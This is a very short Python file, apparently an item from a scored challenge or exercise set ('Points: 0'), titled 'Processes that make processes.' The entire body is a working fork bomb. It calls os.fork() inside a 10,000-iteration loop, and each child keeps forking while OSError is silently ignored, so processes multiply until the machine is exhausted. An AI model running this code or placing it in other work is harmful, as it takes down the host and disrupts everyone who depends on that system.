"""Processes that make processes.

Points: 0
"""

import os

for _ in range(10_000):
    try:
        os.fork()
    except OSError:
        pass
